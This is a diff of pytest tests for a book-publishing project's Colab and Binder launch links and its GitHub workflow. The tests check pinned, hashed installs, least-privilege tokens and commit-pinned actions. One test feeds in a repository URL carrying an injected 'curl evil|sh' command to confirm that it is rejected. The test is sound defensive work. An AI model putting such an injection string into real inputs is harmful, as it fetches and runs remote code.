@@ -3,15 +3,22 @@
 import functools
 import http.server
 import json
+import os
 import re
+import shlex
+import sys
 import threading
+import tomllib
+import types
 import xml.etree.ElementTree as ET
 from pathlib import Path
 
 import pytest
 import yaml
 from bs4 import BeautifulSoup
+from packaging.version import Version
 
+import tasks
 from conftest import PUBLISH_ENV, ROOT, VIEWPORTS, QuietHandler, visit
 from double_ally.book import publish
 from double_ally.core import citation
@@ -73,18 +80,125 @@ def test_addresses_follow_the_settings(monkeypatch):
     assert "/main?" in publish.launch_links("book/trade")["Binder"]
     monkeypatch.setenv("DOUBLE_ALLY_REPOSITORY", "https://gitlab.com/someone/double-ally")
     assert publish.launch_links("book/trade") == {} and publish.colab_setup_source() is None
+    monkeypatch.setenv("DOUBLE_ALLY_REPOSITORY", "https://github.com/someone/x;curl evil|sh")
+    assert publish.launch_links("book/trade") == {} and publish.colab_setup_source() is None
+
+
+class FakeColab:
+    """What the Colab setup cell asks of IPython, recorded; ``git clone`` gives this repository."""
+
+    def __init__(self):
+        self.commands = []
+
+    def system(self, command):
+        self.commands.append(shlex.split(command))
+        if command.startswith("git clone"):
+            Path(shlex.split(command)[-1]).symlink_to(ROOT, target_is_directory=True)
+
+    def run_line_magic(self, name, line):
+        self.commands.append([name, *shlex.split(line)])
+
+
+def run_colab_cell(monkeypatch, tmp_path, on_colab: bool = True) -> tuple[list[list[str]], Path]:
+    """Run the setup cell as Colab would (IPython syntax made Python), without a network."""
+    from IPython.core.inputtransformer2 import TransformerManager
+
+    python = TransformerManager().transform_cell(publish.colab_setup_source())
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setattr(sys, "path", list(sys.path))
+    if on_colab:
+        monkeypatch.setitem(sys.modules, "google.colab", types.ModuleType("google.colab"))
+    colab = FakeColab()
+    exec(compile(python, "colab-setup", "exec"), {"get_ipython": lambda: colab})
+    return colab.commands, Path.cwd()
+
+
+def test_the_colab_cell_installs_the_release_with_its_pinned_hashed_requirements(monkeypatch, tmp_path):
+    monkeypatch.setenv("DOUBLE_ALLY_REPOSITORY", "https://github.com/someone/double-ally")
+    monkeypatch.delenv("DOUBLE_ALLY_SITE_FOLDER", raising=False)
+    (clone, pip_itself, needs_install), cwd = run_colab_cell(monkeypatch, tmp_path)
+    version = yaml.safe_load((ROOT / "CITATION.cff").read_text())["version"]
+    assert clone == ["git", "clone", "--depth", "1", "--branch", f"v{version}",
+                     "https://github.com/someone/double-ally", "double-ally"]
+    assert pip_itself == ["pip", "install", "--quiet", "--require-hashes", "--no-deps", "-r", "pinned-pip.txt"]
+    pinned_pip = (tmp_path / "pinned-pip.txt").read_text()
+    pip_version = re.match(r"pip==(\S+)", pinned_pip).group(1)
+    assert Version(pip_version) >= Version("26.1"), "pip checks the hashes of a constraints file from 26.1 on"
+    assert pinned_pip.count("--hash=sha256:") >= 1
+    with open(ROOT / "pyproject.toml", "rb") as f:
+        needs = tomllib.load(f)["project"]["dependencies"]
+    assert needs_install == ["pip", "install", "--quiet", "--constraint", "double-ally/requirements.txt", *needs]
+    for name in needs:  # each is pinned, with the hashes of its files, in the file the cell constrains to
+        lines = tasks.pinned(ROOT / "requirements.txt", [name])
+        assert "==" in lines and "--hash=sha256:" in lines, name
+    assert cwd == (tmp_path / "double-ally" / "book").resolve()
+
+
+def test_the_colab_cell_of_a_preview_fetches_main_and_does_nothing_outside_colab(monkeypatch, tmp_path):
+    monkeypatch.setenv("DOUBLE_ALLY_REPOSITORY", "https://github.com/someone/double-ally")
+    monkeypatch.setenv("DOUBLE_ALLY_SITE_FOLDER", "dev")
+    commands, _ = run_colab_cell(monkeypatch, tmp_path)
+    assert commands[0][:6] == ["git", "clone", "--depth", "1", "--branch", "main"]
+    monkeypatch.delitem(sys.modules, "google.colab")
+    (tmp_path / "elsewhere").mkdir()
+    assert run_colab_cell(monkeypatch, tmp_path / "elsewhere", on_colab=False)[0] == []
+
+
+WORKFLOW = ROOT / ".github" / "workflows" / "publish.yml"
+
+
+def workflow() -> dict:
+    return yaml.safe_load(WORKFLOW.read_text())
+
+
+def steps(job: dict) -> list[dict]:
+    return job["steps"]
 
 
 def test_the_workflow_builds_with_the_readme_command_and_publishes_the_build():
-    workflow = yaml.safe_load((ROOT / ".github" / "workflows" / "publish.yml").read_text())
-    steps = [step.get("run", "") for job in workflow["jobs"].values() for step in job["steps"]]
-    script = "\n".join(steps)
-    assert "python3 tasks.py book" in script and "python3 tasks.py test" in script
-    assert "python -m double_ally.book.publish" in script
-    assert "DOUBLE_ALLY_BASE_URL" in json.dumps(workflow)
+    jobs = workflow()["jobs"]
+    build = "\n".join(step.get("run", "") for step in steps(jobs["build"]))
+    assert "python3 tasks.py book" in build and "python3 tasks.py pdf" in build and "python3 tasks.py test" in build
+    assert "python -m double_ally.book.publish" in "\n".join(step.get("run", "") for step in steps(jobs["publish"]))
+    assert jobs["publish"]["needs"] == "build"
+    uploaded = [s["with"] for s in steps(jobs["build"]) if s.get("uses", "").startswith("actions/upload-artifact@")]
+    downloaded = [s["with"] for s in steps(jobs["publish"]) if s.get("uses", "").startswith("actions/download-artifact@")]
+    assert uploaded and downloaded and uploaded[0]["path"] == downloaded[0]["path"] == "_build/html"
+    assert uploaded[0]["name"] == downloaded[0]["name"]
+    assert "DOUBLE_ALLY_BASE_URL" in json.dumps(jobs["build"])
     readme = (ROOT / "README.md").read_text()
     assert "python3 tasks.py book" in readme
 
+
+def test_only_the_job_that_pushes_the_site_may_write():
+    """The workflow's token reads; write access is the publish job's alone, and the job that runs the
+    book's code, pip and the tests never sees a token."""
+    flow = workflow()
+    assert flow["permissions"] == {"contents": "read"}
+    writers = {name for name, job in flow["jobs"].items()
+               if any(level == "write" for level in (job.get("permissions") or {}).values())}
+    assert writers == {"publish"}
+    assert flow["jobs"]["publish"]["permissions"] == {"contents": "write"}
+    for name, job in flow["jobs"].items():
+        script = "\n".join(step.get("run", "") for step in steps(job))
+        assert ("git push" in script) == (name == "publish"), name
+        if "tasks.py" in script and "tasks.py book" in script:
+            assert "github.token" not in json.dumps(job) and "secrets." not in json.dumps(job), name
+
+
+def test_every_checkout_keeps_no_credentials():
+    checkouts = [step for job in workflow()["jobs"].values() for step in steps(job)
+                 if step.get("uses", "").startswith("actions/checkout@")]
+    assert len(checkouts) == len(workflow()["jobs"])
+    assert all(step.get("with", {}).get("persist-credentials") is False for step in checkouts)
+
+
+def test_every_action_is_pinned_to_a_commit_with_its_tag_beside_it():
+    uses = re.findall(r"^\s*(?:-\s+)?uses:\s*(\S+)(.*)$", WORKFLOW.read_text(), re.M)
+    assert len(uses) == sum(1 for job in workflow()["jobs"].values() for step in steps(job) if "uses" in step)
+    for action, comment in uses:
+        assert re.fullmatch(r"[\w.-]+/[\w./-]+@[0-9a-f]{40}", action), action
+        assert re.fullmatch(r"\s+# v\d+(\.\d+)*", comment), f"{action}: the tag it stands for, as a comment"
 
 # ------------------------------------------------------------------------ what the build publishes
 
@@ -120,7 +234,19 @@ def test_chapters_offer_launch_links_to_files_that_exist(built_book):
         colab = re.search(r'class="da-launch-colab" href="[^"]+/blob/gh-pages/v[\d.]+/([^"]+)"', text).group(1)
         assert (ROOT / binder).is_file(), f"Binder would open {binder}, which is not in the repository"
         assert (built_book / colab).is_file(), f"Colab would open {colab}, which the site does not publish"
-    assert (ROOT / "requirements.txt").is_file() and (ROOT / "runtime.txt").is_file()  # what Binder reads
+
+
+def test_binder_installs_the_hashed_requirements_then_the_package():
+    """Binder reads .binder/ (and then nothing at the top level): the pinned requirements with their
+    hashes, the Python version, and a postBuild that installs the book's package without dependencies."""
+    binder = ROOT / ".binder"
+    lines = [x.strip() for x in (binder / "requirements.txt").read_text().splitlines() if x.strip()[:1] not in {"", "#"}]
+    assert lines == ["-r ../requirements.txt"]
+    assert "--hash=sha256:" in (ROOT / "requirements.txt").read_text()
+    assert (binder / "runtime.txt").read_text().strip() == "python-3.11"
+    post = binder / "postBuild"
+    assert os.access(post, os.X_OK)
+    assert "pip install --quiet --no-deps --no-build-isolation -e ." in post.read_text()
 
 
 @pytest.mark.build
